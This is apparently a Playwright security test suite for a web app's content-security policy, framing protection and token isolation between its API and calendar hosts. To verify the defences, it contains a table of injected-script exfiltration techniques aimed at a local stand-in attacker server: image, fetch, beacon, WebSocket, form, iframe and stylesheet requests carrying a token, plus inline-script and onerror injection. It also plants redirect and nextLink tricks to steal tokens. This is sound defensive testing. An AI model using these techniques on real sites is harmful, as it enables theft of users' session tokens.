import { readdirSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { readStaticFiles, withFile } from '#server/http/files.ts'
import { serveFile } from '#sandbox-server/http.ts'
import { removeServers, startServer } from '#tests/sandbox-server/child-server.ts'
import { newDataFile } from '#tests/sandbox-server/data-files.ts'
import { signInAt } from '#tests/sandbox-server/signed-in.ts'
import { securityHeaders } from '../../tools/headers/security-headers.mjs'
import { expect, journey } from './campus.ts'

declare global {
  interface Window {
    violated?: string | undefined
    /** Set by an attack that succeeded without a request. */
    hasRun?: boolean
    readonly trustedTypes?: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } }
  }
}

/** A deployment without a server for its API and calendar. */
const unanswered = { apiURL: 'http://api.localhost:4901/', calendarURL: 'http://calendar.localhost:4902/v1.0' }

const servers: Server[] = []

async function listen(answer: Parameters<typeof createServer>[1], host: string): Promise<string> {
  const server = createServer(answer)
  servers.push(server)
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  return `http://${host}:${(server.address() as AddressInfo).port}`
}

/** The production build, with the headers generated from its config.json or with none. Returns its origin. */
async function deploy(isGuarded: boolean, config = unanswered): Promise<string> {
  const files = withFile(
    readStaticFiles('dist'),
    '/config.json',
    Buffer.from(JSON.stringify(config)),
    'application/json',
  )
  return listen((request, response) => {
    const { pathname, origin } = new URL(request.url ?? '/', `http://${request.headers.host ?? ''}`)
    if (isGuarded) for (const [name, value] of securityHeaders(config, { origin })) response.setHeader(name, value)
    void serveFile(files, request, response, pathname)
  }, 'localhost')
}

/** The attacker's site. It remembers which paths were requested, and shows a page at `/page`. */
async function openEvil() {
  const reached = new Set<string>()
  const take = (url = '') => reached.add(url.split(/[/?]/)[1] ?? '')
  const origin = await listen((request, response) => {
    take(request.url)
    response.setHeader('Access-Control-Allow-Origin', '*')
    if (request.url === '/page')
      response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>Evil</title>')
    // Without content, a form or a frame leaves the page as it is.
    else response.writeHead(204).end()
  }, '127.0.0.1')
  servers.at(-1)?.on('upgrade', ({ url }, socket) => {
    take(url)
    socket.destroy()
  })
  return { origin, reached }
}

journey.afterAll(removeServers)
journey.afterEach(() => servers.splice(0).forEach((server) => server.close().closeAllConnections()))

type Attack = (evil: string) => unknown

/**
 * The ways in which a script that got into the page could carry a token out or bring in more, with the directive against each. An attack
 * that succeeds requests the path of its name, or sets `hasRun`.
 */
const attacks: Readonly<Record<string, readonly [directive: string, attack: Attack]>> = {
  image: ['img-src', (evil) => (new Image().src = `${evil}/image?token`)],
  fetch: ['connect-src', (evil) => fetch(`${evil}/fetch`, { method: 'POST', body: 'token' })],
  beacon: ['connect-src', (evil) => navigator.sendBeacon(`${evil}/beacon`, 'token')],
  socket: ['connect-src', (evil) => void new WebSocket(`${evil.replace('http', 'ws')}/socket?token`)],
  events: ['connect-src', (evil) => void new EventSource(`${evil}/events?token`)],
  font: ['font-src', (evil) => new FontFace('evil', `url(${evil}/font?token)`).load()],
  form: [
    'form-action',
    (evil) => {
      const form = Object.assign(document.createElement('form'), { action: `${evil}/form`, method: 'post' })
      document.body.append(form)
      form.submit()
    },
  ],
  frame: [
    'frame-src',
    (evil) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/frame?token` })),
  ],
  timer: ['require-trusted-types-for', () => Reflect.apply(setTimeout, window, ['hasRun = true'])],
  inline: [
    'require-trusted-types-for',
    () => document.head.append(Object.assign(document.createElement('script'), { text: 'hasRun = true' })),
  ],
  script: [
    'require-trusted-types-for',
    (evil) => document.head.append(Object.assign(document.createElement('script'), { src: `${evil}/script` })),
  ],
  markup: [
    'require-trusted-types-for',
    () => (document.createElement('p').innerHTML = '<img src=x: onerror="hasRun = true">'),
  ],
  worker: [
    'require-trusted-types-for',
    () => {
      window.hasRun = new Worker('/assets/none.js') instanceof Worker
    },
  ],
  'default policy': [
    'trusted-types',
    () => (window.hasRun = Boolean(window.trustedTypes?.createPolicy('default', {}))),
  ],
  'further policy': ['trusted-types', () => (window.hasRun = Boolean(window.trustedTypes?.createPolicy('evil', {})))],
  attribute: ['style-src-attr', (evil) => document.body.setAttribute('style', `background: url(${evil}/attribute)`)],
  style: [
    'style-src-elem',
    (evil) =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: `html { background: url(${evil}/style) }` }),
      ),
  ],
  sheet: [
    'style-src-elem',
    (evil) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}/sheet` })),
  ],
  base: [
    'base-uri',
    (evil) => {
      document.head.append(Object.assign(document.createElement('base'), { href: evil }))
      window.hasRun = document.baseURI.startsWith(evil)
    },
  ],
}

journey.use({ refused: /./ })

async function open(page: Page, origin: string): Promise<void> {
  await page.goto(`${origin}/account/login`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (event) => (window.violated = event.effectiveDirective))
  })
}

/** Does it, and returns once it was refused or has succeeded. */
async function attempt(page: Page, name: string, attack: Attack, evil: Awaited<ReturnType<typeof openEvil>>) {
  await page.evaluate(() => Object.assign(window, { violated: undefined, hasRun: false }))
  await page.evaluate(attack, evil.origin).catch(() => undefined)
  const outcome = async () => {
    const { violated, hasRun } = await page.evaluate(() => ({ violated: window.violated, hasRun: window.hasRun }))
    return violated ?? (hasRun || evil.reached.has(name) ? 'succeeded' : null)
  }
  await expect.poll(outcome, { message: name, intervals: [20, 50, 100] }).not.toBeNull()
  return outcome()
}

journey(
  'T9: a script that got into the page or into its worker sends nothing elsewhere and brings in nothing more',
  async ({ page }) => {
    const evil = await openEvil()
    const guarded = await deploy(true)
    const script = `/assets/${readdirSync('dist/assets').find((name) => name.startsWith('compute-')) ?? ''}`
    const attackInWorker = async () => {
      const started = page.waitForEvent('worker')
      await page.evaluate((url) => {
        const rules = { createScriptURL: (text: string) => text }
        // The product names this policy when it starts its worker, which the sign-in page does not.
        const policy = window.trustedTypes?.createPolicy('foyer-worker', rules) ?? rules
        Object.assign(window, { worker: new Worker(policy.createScriptURL(url), { type: 'module' }) })
      }, script)
      const worker = await started
      await worker.evaluate(async (origin) => {
        const violated: string[] = []
        Object.assign(globalThis, { violated })
        globalThis.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          violated.push(effectiveDirective),
        )
        await import(`${origin}/import`).catch(() => undefined)
        await fetch(`${origin}/fetched`, { method: 'POST', body: 'token' }).catch(() => undefined)
      }, evil.origin)
      return () => worker.evaluate(() => (globalThis as unknown as { violated: string[] }).violated)
    }
    await open(page, guarded)
    // They are reported a moment after the refusal.
    await expect.poll(await attackInWorker()).toEqual(['script-src-elem', 'connect-src'])
    for (const [name, [directive, attack]] of Object.entries(attacks))
      expect(await attempt(page, name, attack, evil), name).toBe(directive)
    expect([...evil.reached]).toEqual([])

    // Without the headers, each of them succeeds.
    await open(page, await deploy(false))
    const violated = await attackInWorker()
    expect([...evil.reached]).toEqual(['import', 'fetched'])
    expect(await violated()).toEqual([])
    for (const [name, [, attack]] of Object.entries(attacks))
      expect(await attempt(page, name, attack, evil), name).toBe('succeeded')
  },
)

journey('T14: another site cannot frame the page, nor keep hold of one that it opens', async ({ page }) => {
  const { origin: evil } = await openEvil()
  const holds = async (isGuarded: boolean) => {
    const origin = await deploy(isGuarded)
    await page.goto(`${evil}/page`)
    const opened = page.context().waitForEvent('page')
    await page.evaluate(async (url) => {
      const frame = document.createElement('iframe')
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      frame.src = url
      document.body.append(frame)
      await loaded
      Object.assign(window, { held: window.open(`${url}/account/login`) })
    }, origin)
    const other = await opened
    await expect(other.getByRole('heading', { level: 1 })).toBeVisible()
    const framed = page.frames().some((frame) => frame !== page.mainFrame() && frame.url().startsWith(origin))
    const isHeld = await page.evaluate(() => !(window as unknown as { held: Window }).held.closed)
    await other.close()
    return { framed, isHeld }
  }
  expect(await holds(true)).toEqual({ framed: false, isHeld: false })
  expect(await holds(false)).toEqual({ framed: true, isHeld: true })
})

interface Answer {
  readonly status: number
  readonly location?: string
  /** Changes the text that was passed on. */
  readonly edit?: (text: string) => string
}

/** A host of the deployment. It passes a request on unless `answer` has an answer, and remembers all that it was sent. */
async function openHost(name: string, below: string, answer: (path: string, token: string) => Partial<Answer> | null) {
  const received: string[] = []
  const tokens = new Set<string>()
  const serve = async (request: IncomingMessage, response: ServerResponse) => {
    const { url = '/', method = 'GET', headers } = request
    const body = Buffer.concat(await request.toArray())
    const { origin = '*', authorization = '', 'access-control-request-headers': asked = '*' } = headers
    const token = authorization.replace('Bearer ', '')
    if (token !== '') tokens.add(token)
    received.push(`${url} ${JSON.stringify(headers)} ${body.toString()}`)
    const { status, location, edit } = (method === 'OPTIONS' ? { status: 204 } : answer(url, token)) ?? {}
    const sent = { method, headers: { authorization, 'content-type': 'application/json' } }
    const passOn = () => fetch(below + url, body.length > 0 ? { ...sent, body } : sent)
    // The server closes a connection after five seconds without requests, at times just when it is used again.
    const passed = status ? null : await passOn().catch(passOn)
    const text = (await passed?.text()) ?? ''
    response.writeHead(status ?? passed?.status ?? 500, {
      'content-type': 'application/json',
      'access-control-allow-origin': origin,
      'access-control-allow-headers': asked,
      'access-control-allow-methods': '*',
      ...(location === undefined ? {} : { location }),
    })
    response.end(edit ? edit(text) : text)
  }
  return {
    origin: await listen((request, response) => void serve(request, response).catch(() => response.destroy()), name),
    received,
    tokens,
  }
}

journey(
  'T4, T9: no host gets the secrets of another that asks for them, nor the tokens of another deployment or API',
  async ({ page }) => {
    const sandbox = await startServer(['--port', '0', '--data', newDataFile()], 'tools/sandbox-server.mjs')
    const { token, refreshToken } = await signInAt(sandbox.origin)
    // The calendar says that the next page of events is at the API.
    const withNext = (text: string) =>
      JSON.stringify({ ...JSON.parse(text), '@odata.nextLink': `${api.origin}/stolen` })
    const calendar = await openHost('calendar.localhost', `${sandbox.origin}/services/graph.microsoft.com`, (path) =>
      path.includes('/calendarView') ? { edit: withNext } : null,
    )
    // The API refuses the token, and sends the first request for another one to the calendar.
    const redirects = [{ status: 307, location: `${calendar.origin}/stolen` }]
    const api = await openHost('api.localhost', `${sandbox.origin}/sandbox-api`, (path, used) => {
      if (path === '/api/account/refresh') return redirects.pop() ?? null
      return used === token ? { status: 401 } : null
    })
    const origin = await deploy(true, { apiURL: `${api.origin}/`, calendarURL: `${calendar.origin}/v1.0` })
    const openWithTokensOf = async (owner: string): Promise<void> => {
      await page.goto(`${origin}/version.json`)
      await page.evaluate(
        (stored) => {
          localStorage.clear()
          Object.assign(localStorage, stored)
        },
        { api_token: token, api_refresh_token: refreshToken, 'assist-session': '1', 'assist-token-owner': owner },
      )
      await page.goto(`${origin}/reservations`)
    }
    for (const owner of [`${api.origin}/ /foyer/`, 'https://earlier.example/ /']) {
      await openWithTokensOf(owner)
      await expect(page).toHaveURL(/\/account\/login/)
      const sent = api.received.join('\n')
      expect([sent.includes(token), sent.includes(refreshToken), api.tokens.size]).toEqual([false, false, 0])
    }

    // With its own tokens, the first request for another token was refused, so the start failed.
    await openWithTokensOf(`${api.origin}/ /`)
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect(page.getByRole('heading', { level: 1, name: 'Reservations' })).toBeVisible()
    // The calendar's page of events has arrived, and its next page was not requested.
    await expect(page.getByRole('main').getByRole('alert')).toBeVisible()

    // The token and the one that replaced it, and that of the calendar.
    await expect.poll(() => [api.tokens.size, calendar.tokens.size]).toEqual([2, 1])
    const [sentToApi, sentToCalendar] = [api, calendar].map(({ received }) => received.join('\n'))
    for (const secret of [refreshToken, ...api.tokens]) expect(sentToCalendar).not.toContain(secret)
    for (const secret of calendar.tokens) expect(sentToApi).not.toContain(secret)
    expect(`${sentToApi}${sentToCalendar}`).not.toContain('stolen')
  },
)
